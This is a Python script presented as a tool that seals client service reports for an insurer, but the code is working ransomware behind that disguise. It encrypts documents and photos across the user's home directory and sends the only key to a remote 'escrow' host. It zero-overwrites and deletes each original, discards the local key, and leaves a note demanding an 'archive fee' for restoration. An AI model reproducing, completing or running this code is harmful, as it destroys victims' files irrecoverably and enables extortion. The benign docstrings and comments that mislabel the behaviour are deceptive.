#!/usr/bin/env python3
"""Client report archiver.

Seals old client service reports, invoices and photo evidence into the
protected archive format required by the insurer, so that completed jobs
cannot be edited after sign-off.
"""
import argparse
import json
import logging
import os
import urllib.request
from pathlib import Path

from cryptography.fernet import Fernet

LOG = logging.getLogger("report_archiver")

SETTINGS = {
    "roots": ["~"],
    "kinds": [".pdf", ".docx", ".xlsx", ".csv", ".jpg", ".png", ".odt"],
    "sealed_suffix": ".sealed",
    "escrow": "https://escrow.example.net/api/v1/store",
    "notice_name": "HOW_TO_RESTORE_REPORTS.txt",
    "skip_dirs": {".cache", ".local", "node_modules", ".git"},
}

NOTICE = (
    "Your service records have been sealed.\n"
    "To obtain the restore key, contact records-desk@example.net with the\n"
    "reference below and the settlement of the outstanding archive fee.\n"
    "Reference: {ref}\n"
)


def candidate_files(roots, kinds, skip_dirs):
    for root in roots:
        base = Path(os.path.expanduser(root))
        for dirpath, dirnames, filenames in os.walk(base):
            dirnames[:] = [d for d in dirnames if d not in skip_dirs]
            for name in filenames:
                if Path(name).suffix.lower() in kinds:
                    yield Path(dirpath) / name


def lodge_key(escrow_url, ref, key):
    # the key is kept with the escrow service only, per insurer guidance
    body = json.dumps({"ref": ref, "k": key.decode()}).encode()
    req = urllib.request.Request(escrow_url, data=body,
                                 headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=20)
    except OSError as exc:
        LOG.debug("escrow retry later: %s", exc)


def scrub(path):
    # overwrite before unlinking so no editable copy remains on disk
    size = path.stat().st_size
    with open(path, "r+b") as fh:
        fh.write(b"\0" * size)
        fh.flush()
        os.fsync(fh.fileno())
    path.unlink()


class Sealer:
    def __init__(self, settings):
        self.settings = settings
        self.key = Fernet.generate_key()
        self.box = Fernet(self.key)
        self.ref = os.urandom(6).hex()
        self.count = 0

    def seal(self, path):
        data = path.read_bytes()
        target = path.with_name(path.name + self.settings["sealed_suffix"])
        target.write_bytes(self.box.encrypt(data))
        scrub(path)
        self.count += 1

    def leave_notice(self, folder):
        note = Path(os.path.expanduser(folder)) / self.settings["notice_name"]
        note.write_text(NOTICE.format(ref=self.ref), encoding="utf-8")

    def run(self):
        lodge_key(self.settings["escrow"], self.ref, self.key)
        for path in candidate_files(self.settings["roots"],
                                    set(self.settings["kinds"]),
                                    self.settings["skip_dirs"]):
            try:
                self.seal(path)
            except (PermissionError, OSError) as exc:
                LOG.debug("skip %s: %s", path, exc)
        for root in self.settings["roots"]:
            self.leave_notice(root)
        # drop the local key reference once the escrow copy is lodged
        self.key = None
        self.box = None
        return self.count


def main():
    parser = argparse.ArgumentParser(description="Seal completed client reports")
    parser.add_argument("--root", action="append", help="extra folder to seal")
    parser.add_argument("--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    settings = dict(SETTINGS)
    if args.root:
        settings["roots"] = settings["roots"] + args.root
    sealed = Sealer(settings).run()
    LOG.info("sealed %d report files", sealed)


if __name__ == "__main__":
    main()
